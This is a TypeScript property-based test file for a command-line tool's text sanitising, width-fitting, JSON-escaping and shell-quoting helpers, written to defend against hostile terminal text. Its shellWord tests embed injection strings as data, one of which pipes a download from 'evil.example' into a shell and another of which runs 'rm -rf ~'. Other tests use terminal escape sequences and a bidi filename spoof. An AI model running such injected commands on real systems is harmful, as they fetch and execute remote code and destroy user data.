// tier: in-process
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { clip, jsonDocument, sanitize, shellWord, tone } from '../../src/cli/text/text.js';
import stringWidth from 'string-width';
import { displayWidth, fit } from '../../src/cli/text/width.js';
import { freshSeedNote, hostileChar, hostileString, SEEDS, UNSAFE_OUTPUT } from '../helpers/hostile-text.js';

beforeAll(() => console.info(`render-text: ${freshSeedNote('test/unit/render-text.test.ts')}`));

/** The same, and a newline too: sanitised text is one line. */
const UNSAFE_IN_LINE = new RegExp(`\n|${UNSAFE_OUTPUT.source}`, 'u');

describe('sanitize', () => {
  it('shows controls, escape sequences and line breaks as escapes, and keeps the rest', () => {
    expect(sanitize('\x1b]52;c;aGk=\x07 ok\t\u00e9\n\x9b2J\r\x7f')).toBe('\\x1b]52;c;aGk=\\x07 ok\\t\u00e9\\n\\x9b2J\\r\\x7f');
    expect(sanitize('\x00\x85\x9f')).toBe('\\x00\\x85\\x9f');
    expect(sanitize('plain 日本語 😀 e\u0301 \\x1b')).toBe('plain 日本語 😀 e\u0301 \\x1b');
  });

  it('shows bidi controls and line separators, so text can be neither reordered nor broken', () => {
    expect(sanitize('evil\u202etxt.exe')).toBe('evil\\u202etxt.exe');
    expect(sanitize('\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069')).toBe(
      '\\u061c\\u200e\\u200f\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069',
    );
    expect(sanitize('a\u2028b\u2029c')).toBe('a\\u2028b\\u2029c');
  });

  it('shows every character drawn as nothing, so that two names never look alike', () => {
    expect(sanitize('prod\u200b')).toBe('prod\\u200b');
    expect(sanitize('\u00ad\u034f\u115f\u1160\u180e\u200c\u200d\u2060\u2064\u3164\ufe0f\ufeff\uffa0')).toBe(
      '\\xad\\u034f\\u115f\\u1160\\u180e\\u200c\\u200d\\u2060\\u2064\\u3164\\ufe0f\\ufeff\\uffa0',
    );
    expect(sanitize('a\u{e0041}\u{e007f}\u{e0100}b')).toBe('a\\u{e0041}\\u{e007f}\\u{e0100}b');
    // Whether a joined emoji draws as one picture is the font's to say: the joiner is shown.
    expect(sanitize('👩\u200d💻')).toBe('👩\\u200d💻');
    // The escape's columns count, and it stays whole or goes whole.
    expect(fit('ab\u200bcd', 8)).toEqual({ text: 'ab…', width: 3 });
    expect(fit('ab\u200bcd', 9)).toEqual({ text: 'ab\\u200b…', width: 9 });
  });

  it('shows a lone surrogate, and leaves a pair alone', () => {
    expect(sanitize('a\ud83d b\ude00 \ud83d\ude00')).toBe('a\\ud83d b\\ude00 \ud83d\ude00');
    expect(sanitize('\ude00\ud83d')).toBe('\\ude00\\ud83d');
  });

  it.each(SEEDS)('leaves nothing that could move the cursor, reorder text or start a line ($pass seed $seed)', ({ seed }) => {
    fc.assert(
      fc.property(hostileString, (text) => {
        const shown = sanitize(text);
        expect(shown).not.toMatch(UNSAFE_IN_LINE);
        expect(sanitize(shown)).toBe(shown);
      }),
      { seed, numRuns: 2000 },
    );
  });
});

describe('clip', () => {
  it('cuts past `max` code points with …, counting what is shown', () => {
    expect(clip('é'.repeat(300), 200)).toBe(`${'é'.repeat(199)}…`);
    expect(clip('x'.repeat(200), 200)).toBe('x'.repeat(200));
    expect(clip('😀'.repeat(5), 3)).toBe('😀😀…');
    expect(clip('a\nb', 4)).toBe('a\\nb');
  });

  it('never cuts an escape in half', () => {
    expect(clip('a\nb', 3)).toBe('a…');
    expect(clip('ab\x1bcdef', 5)).toBe('ab…');
    expect(clip('ab\x1bcdef', 7)).toBe('ab\\x1b…');
    expect(clip('\u202e'.repeat(3), 8)).toBe('\\u202e…');
  });

  it.each(SEEDS)('gives at most `max` code points of the sanitised text, whole escapes only ($pass seed $seed)', ({ seed }) => {
    fc.assert(
      fc.property(hostileString, fc.integer({ min: 1, max: 30 }), (text, max) => {
        const clipped = clip(text, max);
        expect([...clipped].length).toBeLessThanOrEqual(max);
        expect(clipped).not.toMatch(UNSAFE_IN_LINE);
        if ([...sanitize(text)].length <= max) {
          expect(clipped).toBe(sanitize(text));
        } else {
          expect(clipped.endsWith('…')).toBe(true);
          const kept = clipped.slice(0, -1);
          const chars = [...text];
          expect(chars.some((_, k) => sanitize(chars.slice(0, k).join('')) === kept) || kept === '').toBe(true);
        }
      }),
      { seed, numRuns: 1000 },
    );
  });
});

describe('displayWidth', () => {
  // The bundle gives cli-table3 displayWidth for string-width (scripts/table-plugins.mjs): they must agree on everything.
  const common = fc.string({ unit: fc.constantFrom('a', 'Z', '0', ' ', '~', '…', '\x1b[1m', '\x1b[22m', 'é', '日'), maxLength: 30 });
  it.each(SEEDS)('measures every string as string-width 4 does ($pass seed $seed)', ({ seed }) => {
    fc.assert(
      fc.property(fc.oneof(hostileString, common, fc.string({ unit: 'binary' })), (text) => {
        expect(displayWidth(text)).toBe(stringWidth(text));
      }),
      { seed, numRuns: 3000 },
    );
  });
});

describe('fit (terminal columns)', () => {
  it('counts East Asian wide characters and emoji as two columns', () => {
    expect(fit('日本語', 10)).toEqual({ text: '日本語', width: 6 });
    expect(fit('日本語日本語', 5)).toEqual({ text: '日本…', width: 5 });
    expect(fit('日本語日本語', 4)).toEqual({ text: '日…', width: 3 });
    expect(fit('😀😀😀', 4)).toEqual({ text: '😀…', width: 3 });
    expect(fit('a\x1bbcdef', 5)).toEqual({ text: 'a…', width: 2 });
  });

  it.each(SEEDS)('never goes past `max` columns ($pass seed $seed)', ({ seed }) => {
    fc.assert(
      fc.property(hostileString, fc.integer({ min: 1, max: 30 }), (text, max) => {
        const { text: shown, width } = fit(text, max);
        expect(width).toBeLessThanOrEqual(max);
        expect(shown).not.toMatch(UNSAFE_IN_LINE);
      }),
      { seed, numRuns: 1000 },
    );
  });
});

describe('jsonDocument', () => {
  it('is JSON.stringify with two spaces, C1, DEL, bidi and separators escaped too', () => {
    expect(jsonDocument({ a: [1, 'x'] })).toBe(JSON.stringify({ a: [1, 'x'] }, null, 2));
    expect(jsonDocument({ name: '\x1b[2J\x9b\x7f\u202e\u2028\ud800' })).toBe('{\n  "name": "\\u001b[2J\\u009b\\u007f\\u202e\\u2028\\ud800"\n}');
    expect(jsonDocument({ '\u202ekey': 1 })).toBe('{\n  "\\u202ekey": 1\n}');
    expect(jsonDocument({ name: 'prod\u200b\u00ad\u{e0041}' })).toBe('{\n  "name": "prod\\u200b\\u00ad\\udb40\\udc41"\n}');
    expect(jsonDocument(undefined)).toBe('null');
  });

  it.each(SEEDS)('parses back to the same value and holds none of those characters raw ($pass seed $seed)', ({ seed }) => {
    fc.assert(
      fc.property(fc.jsonValue({ stringUnit: hostileChar, maxDepth: 3 }), (value) => {
        const document = jsonDocument(value);
        // What JSON itself can say: -0 is written 0 by JSON.stringify too.
        expect(JSON.parse(document)).toEqual(JSON.parse(JSON.stringify(value)));
        expect(document).not.toMatch(UNSAFE_OUTPUT);
      }),
      { seed, numRuns: 500 },
    );
  });
});

describe('shellWord', () => {
  it('leaves a plain word alone and quotes anything a shell would read as more than one word', () => {
    expect(shellWord('key_0fnfu8idtdapl2nb1ruh')).toBe('key_0fnfu8idtdapl2nb1ruh');
    expect(shellWord('key_1; curl evil.example | sh')).toBe("'key_1; curl evil.example | sh'");
    expect(shellWord("$(rm -rf ~)'`x`")).toBe("'$(rm -rf ~)'\\''`x`'");
    expect(shellWord('')).toBe("''");
    expect(shellWord('a\nb\x1b')).toBe("'a\\nb\\x1b'");
  });

  /** The one word a POSIX shell reads from `word`, or null when it reads it otherwise. */
  const shellRead = (word: string): string | null => {
    if (/^[\w.@%+=:,/-]+$/.test(word)) return word;
    const quoted = /^'((?:[^']|'\\'')*)'$/.exec(word);
    return quoted ? quoted[1]!.replaceAll("'\\''", "'") : null;
  };

  it.each(SEEDS)('is read by a shell as one word, the text as clip shows it ($pass seed $seed)', ({ seed }) => {
    fc.assert(
      fc.property(hostileString, (text) => {
        expect(shellRead(shellWord(text))).toBe(clip(text, 200));
      }),
      { seed, numRuns: 500 },
    );
  });
});

describe('tone', () => {
  it('is a segment with its tone', () => {
    expect(tone('x', 'red')).toEqual({ text: 'x', tone: 'red' });
  });
});
